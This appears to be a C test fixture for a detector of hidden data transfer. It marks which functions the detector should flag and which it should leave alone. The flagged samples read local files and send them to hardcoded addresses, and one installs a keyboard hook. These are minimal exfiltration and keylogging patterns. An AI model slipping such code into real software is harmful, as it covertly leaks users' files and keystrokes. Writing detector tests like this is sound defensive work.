/* SPDX-License-Identifier: Apache-2.0 */
/* backdoor/hidden-transfer: what it finds, then what it must leave alone. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
void *SetWindowsHookExA(int kind, void *function, void *module, unsigned thread);

#include "hidden-transfer.h"

int finds_a_file_that_is_sent(int s, struct sockaddr_in *to, char *buf)
{
	FILE *f = fopen("data.txt", "rb");

	to->sin_addr.s_addr = inet_addr("10.10.1.1"); /* expect: backdoor/hidden-transfer */
	if (!f || !fread(buf, 1, 100, f))
		return -1;
	return (int)send(s, buf, 100, 0);
}

void finds_keystrokes(void *f)
{
	SetWindowsHookExA(13, f, 0, 0); /* expect: backdoor/hidden-transfer */
}

#define PEER "203.0.113.9"
int finds_through_a_macro(int s, struct in_addr *to, char *buf)
{
	FILE *f = fopen("a", "r");

	if (f && inet_pton(AF_INET, PEER, to) && fread(buf, 1, 10, f)) /* expect: backdoor/hidden-transfer */
		return (int)send(s, buf, 10, 0);
	return 0;
}

int allows_an_address_of_the_user(int s, const char *peer, struct in_addr *to, char *buf)
{
	FILE *f = fopen("a", "r");

	if (f && inet_pton(AF_INET, peer, to) && fread(buf, 1, 10, f))
		return (int)send(s, buf, 10, 0);
	return 0;
}

int allows_the_own_machine(int s, struct sockaddr_in *to, char *buf)
{
	FILE *f = fopen("a", "r");

	to->sin_addr.s_addr = inet_addr("127.0.0.1");
	return f && fread(buf, 1, 10, f) ? (int)send(s, buf, 10, 0) : 0;
}

int allows_a_group_of_the_link(int s, struct in_addr *to, char *buf)
{
	FILE *f = fopen("a", "r");

	inet_pton(10, "ff02::1", to);
	return f && fread(buf, 1, 10, f) ? (int)send(s, buf, 10, 0) : 0;
}

int allows_sending_without_a_file(int s, struct sockaddr_in *to)
{
	to->sin_addr.s_addr = inet_addr("224.0.0.251");
	return (int)send(s, "hello", 5, 0);
}

void *allows_other_hooks(void *f)
{
	return SetWindowsHookExA(3, f, 0, 0);
}
